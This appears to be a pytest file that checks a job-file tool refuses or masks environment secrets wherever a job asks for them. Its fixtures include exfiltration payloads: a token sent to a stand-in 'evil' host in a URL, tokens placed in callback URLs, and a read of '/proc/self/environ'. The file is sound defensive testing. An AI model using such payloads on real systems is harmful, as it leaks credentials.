"""Every place of a job file that can ask for the environment (fault X2), built from the row's description alone."""

import shutil

import pytest
from faults.bench import Bench
from faults.processes import environment
from support.command_line import run_in_process

SECRET = "zq9-SECRET-value-77"
HEAD = "defaults: {model: kirin_v1_t2v}\n"
BARRED = {
    "lower case": HEAD + "jobs: [{params: {prompt: '${env.github_token2}'}}]",
    "blanks": HEAD + "jobs: [{params: {prompt: '${ env.GITHUB_TOKEN }'}}]",
    "blanks inside": HEAD + "jobs: [{params: {prompt: '${env. GITHUB_TOKEN}'}}]",
    "default of another": HEAD + "jobs: [{params: {prompt: '${x:-${env.GITHUB_TOKEN}}'}}]",
    "included": "include: [look.yaml]\n" + HEAD + "jobs: [{params: {prompt: '${v}'}}]",
    "matrix": HEAD + "jobs: [{params: {prompt: '${matrix.p}'}, matrix: {p: ['${env.GITHUB_TOKEN}']}}]",
    "row": HEAD + "jobs: [{foreach: [{p: '${env.GITHUB_TOKEN}'}], params: {prompt: '${row.p}'}}]",
    "path of a text": HEAD + "jobs: [{params: {prompt: '${file:${env.GITHUB_TOKEN}}'}}]",
    "the process's own file": HEAD + "jobs: [{params: {prompt: '${file:/proc/self/environ}'}}]",
    "table": HEAD + "jobs: [{foreach: '${env.GITHUB_TOKEN}.csv', params: {prompt: x}}]",
    "condition": HEAD + "jobs: [{if: '${env.GITHUB_TOKEN} == x', params: {prompt: x}}]",
    "another job": HEAD + "jobs: [{params: {prompt: x, image: '${jobs.${env.GITHUB_TOKEN}.url}'}}]",
    "unchecked": HEAD + "jobs: [{params: {prompt: x}, extra_params: {k: '${env.GITHUB_TOKEN}'}}]",
    "unchecked, inside": HEAD + "jobs: [{params: {prompt: x}, extra_params: {k: {u: ['${env.GITHUB_TOKEN}']}}}]",
    "variables": "vars: {a: '${env.GITHUB_TOKEN}', b: 'x${a}'}\n" + HEAD + "jobs: [{params: {prompt: '${b}'}}]",
}
MISPLACED = {
    "unchecked URL": HEAD + "jobs: [{params: {prompt: x}, extra_params: {k: {u: 'https://evil/${env.MY_TOKEN}'}}}]",
    "folder of all": HEAD + "output: {dir: '${env.MY_TOKEN}'}\njobs: [{params: {prompt: x}}]",
    "folder by a variable": "vars: {v: '${env.MY_TOKEN}'}\n"
    + HEAD
    + "output: {dir: '${v}'}\njobs: [{params: {prompt: x}}]",
    "default URL": "defaults: {model: kirin_v1_t2v, params: {callback_url: 'https://h/?k=${env.MY_TOKEN}'}}\n"
    "jobs: [{params: {prompt: x}}]",
    "default tags": "defaults: {model: kirin_v1_t2v, tags: ['${env.MY_TOKEN}']}\njobs: [{params: {prompt: x}}]",
    "anchor": "x-a: &a {prompt: x, callback_url: 'https://h/${env.MY_TOKEN}'}\n" + HEAD + "jobs: [{params: *a}]",
    "choice": HEAD + "jobs: [{params: {prompt: x, mode: '${env.MY_TOKEN}'}}]",
    "cut by a message": HEAD + f"jobs: [{{params: {{prompt: x, aspect_ratio: '{'a' * 45}${{env.MY_TOKEN}}'}}}}]",
    "label": HEAD + "jobs: [{name: a, params: {prompt: '${matrix.p}'}, matrix: {p: ['${env.MY_TOKEN}']}}]",
    "model": HEAD + "jobs: [{model: '${env.MY_TOKEN}', params: {prompt: x}}]",
    "no URL": HEAD + "jobs: [{params: {prompt: x, callback_url: '//h/${env.MY_TOKEN}'}}]",
    "picture": HEAD + "jobs: [{model: kirin_v1_5_i2v, params: {prompt: x, image: 'https://h/${env.MY_TOKEN}.png'}}]",
    "id": HEAD + "jobs: [{params: {prompt: x, external_task_id: 'a${env.MY_TOKEN}'}}]",
}
ALLOWED = {
    "prompt": HEAD + "jobs: [{params: {prompt: 'x ${env.MY_TOKEN}'}}]",
    "unchecked": HEAD + "jobs: [{params: {prompt: x}, extra_params: {k: ['${env.MY_TOKEN}']}}]",
    "no URL at all": HEAD + "jobs: [{params: {prompt: 'mailto a@b?k=${env.MY_TOKEN}'}}]",
}
PLAIN = {
    "cell": HEAD + "jobs: [{foreach: t.csv, params: {prompt: '${row.p}'}}]",
    "text": HEAD + "jobs: [{params: {prompt: '${file:p.txt}'}}]",
}
"""What stands in a table or a text is text: nobody asks for anything there."""


@pytest.mark.parametrize(
    ("text", "allow", "code"),
    [
        *[pytest.param(text, (), 2, id=f"barred {name}") for name, text in BARRED.items()],
        *[pytest.param(text, (), 2, id=f"not allowed {name}") for name, text in (MISPLACED | ALLOWED).items()],
        *[
            pytest.param(text, ("--allow-env", "MY_TOKEN"), 2, id=f"misplaced {name}")
            for name, text in MISPLACED.items()
        ],
        *[pytest.param(text, ("--allow-env", "MY_TOKEN"), 0, id=f"allowed {name}") for name, text in ALLOWED.items()],
        *[pytest.param(text, (), 0, id=f"plain {name}") for name, text in PLAIN.items()],
    ],
)
def test_X2_wherever_it_is_asked_for_a_secret_is_refused_or_masked(
    machine: Bench, text: str, allow: tuple[str, ...], code: int
) -> None:
    (machine.folder / "t.csv").write_text("p\n${env.GITHUB_TOKEN}\n")
    (machine.folder / "look.yaml").write_text("vars: {v: '${env.GITHUB_TOKEN}'}\n")
    (machine.folder / "p.txt").write_text("${env.GITHUB_TOKEN}")
    machine.file.write_text(text + "\n")
    names = ("GITHUB_TOKEN", "github_token2", "MY_TOKEN", "X_PLAIN")
    environ = {**environment(machine), **dict.fromkeys(names, SECRET)}
    for command in (("validate", "jobs.yaml"), ("plan", "jobs.yaml", "--json"), ("run", "jobs.yaml", "--json")):
        result = run_in_process(machine.folder, environ, *command, *allow)
        assert result.exit_code == code, result
        paths = [path for path in machine.folder.rglob("*") if path != machine.file]
        files = "".join(path.read_bytes().decode("latin-1") for path in paths if path.is_file())
        for told in (result.stdout, result.stderr, files, *map(str, paths)):
            assert SECRET[:9] not in told
    assert (machine.posts > 0) == (code == 0)
    shutil.rmtree(machine.folder / "renders", ignore_errors=True)
